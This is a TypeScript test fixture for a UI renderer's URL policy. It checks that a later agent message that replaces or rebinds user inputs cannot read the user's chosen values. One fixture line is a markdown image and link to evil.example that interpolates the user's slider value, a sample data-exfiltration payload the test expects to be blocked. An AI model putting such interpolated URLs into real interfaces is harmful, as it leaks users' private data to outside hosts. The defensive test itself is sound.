/**
 * The messages of the rebind check (issue #37, probe9 finding 1), shared by the Lit sink's check
 * (`rebind-urls.ts`) and the React hook's (`test/react/rebind-urls.ts`): per version, a surface
 * whose ChoicePicker and Slider a later message replaces by Texts, and one whose ChoicePicker it
 * binds to another path; the later message adds an Image on the choice, a Text whose markdown
 * image and link read the slider, and a button opening a `formatString` of the choice.
 */
import { BASIC_CATALOG_ID_V10, basicCatalog, type A2uiMessage } from '../../src/index.js';
import { choicePicker, evilSeen, formatted, openUrl, PIXEL } from './url-fixtures.js';

/** A surface of the check: its id, version, and whether the later message replaces (else rebinds) its inputs. */
export interface RebindSurface {
  readonly id: string;
  readonly version: 'v0.9' | 'v1.0';
  readonly replaced: boolean;
}

export const REBIND_SURFACES: readonly RebindSurface[] = [
  { id: 'gone09', version: 'v0.9', replaced: true },
  { id: 'moved09', version: 'v0.9', replaced: false },
  { id: 'gone10', version: 'v1.0', replaced: true },
  { id: 'moved10', version: 'v1.0', replaced: false },
];

const slider = { id: 'n', component: 'Slider', label: 'Severity', min: 0, max: 9, value: { path: '/n' } };
const message = (s: RebindSurface, body: Record<string, unknown>) => ({ version: s.version, ...body }) as unknown as A2uiMessage;

/** Before the user acts: the picker (and on a replaced surface the slider), a model-written Image and link. */
export function rebindFirstMessages(): A2uiMessage[] {
  return REBIND_SURFACES.flatMap((s) => [
    message(s, { createSurface: { surfaceId: s.id, catalogId: s.version === 'v1.0' ? BASIC_CATALOG_ID_V10 : basicCatalog('0.9').id } }),
    message(s, {
      updateComponents: {
        surfaceId: s.id,
        components: [
          { id: 'root', component: 'Column', children: s.replaced ? ['pick', 'n', 'own', 'docs'] : ['pick', 'own', 'docs'] },
          choicePicker('/choice'),
          ...(s.replaced ? [slider] : []),
          { id: 'own', component: 'Image', url: PIXEL },
          { id: 'docs', component: 'Button', child: 'docsLabel', action: openUrl('https://docs.example/help') },
          { id: 'docsLabel', component: 'Text', text: 'Docs' },
        ],
      },
    }),
    message(s, { updateDataModel: { surfaceId: s.id, path: '/choice', value: [] } }),
  ]);
}

/** After the user acted: the inputs replaced by Texts or the picker bound to `/other`; what reads the old paths added. */
export function laterMessages(): A2uiMessage[] {
  return REBIND_SURFACES.map((s) =>
    message(s, {
      updateComponents: {
        surfaceId: s.id,
        components: [
          { id: 'root', component: 'Column', children: ['pick', ...(s.replaced ? ['n', 'md'] : []), 'own', 'docs', 'img', 'go'] },
          ...(s.replaced
            ? [
                { id: 'pick', component: 'Text', text: 'Noted.' },
                { id: 'n', component: 'Text', text: 'Thanks.' },
                { id: 'md', component: 'Text', text: formatted('Seen ![x](https://evil.example/n-${/n}.png) [more](https://evil.example/l-${/n})') },
              ]
            : [choicePicker('/other')]),
          { id: 'img', component: 'Image', url: { path: '/choice/0' }, description: 'chosen' },
          { id: 'go', component: 'Button', child: 'goLabel', action: openUrl(formatted('${/choice/0}')) },
          { id: 'goLabel', component: 'Text', text: 'Continue' },
        ],
      },
    }),
  );
}

/** Picks "Asthma" and moves the slider to 7 in `root` (React or Lit markup); how many inputs it acted on. */
export function pickAndSlide(root: ParentNode, optionSelector: string): number {
  let acted = 0;
  const option = root.querySelectorAll<HTMLInputElement>(optionSelector)[1];
  if (option) {
    option.click();
    acted++;
  }
  const range = root.querySelector<HTMLInputElement>('input[type="range"]');
  if (range) {
    // The prototype's setter: React tracks the value the element's own setter was given.
    Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value')?.set?.call(range, '7');
    range.dispatchEvent(new Event('input', { bubbles: true, composed: true }));
    acted++;
  }
  return acted;
}

/** The outcome of the check, the same for both renderers. */
export function rebindOutcome(roots: readonly ParentNode[], acted: number, opened: readonly string[]) {
  const evil = evilSeen(roots);
  const own = roots.filter((root) => [...root.querySelectorAll('img')].some((img) => img.getAttribute('src') === PIXEL)).length;
  const expected = REBIND_SURFACES.length;
  const inputs = expected + REBIND_SURFACES.filter((s) => s.replaced).length;
  const ok =
    roots.length === expected &&
    acted === inputs &&
    own === expected &&
    evil.length === 0 &&
    opened.length === expected &&
    opened.every((url) => url === 'https://docs.example/help');
  return {
    name: 'URL policy: a path an input bound stays the user’s after a later message replaces or rebinds the input (Image, markdown, openUrl)',
    ok,
    detail: JSON.stringify({ surfaces: roots.length, acted, own, evil, opened }),
  };
}
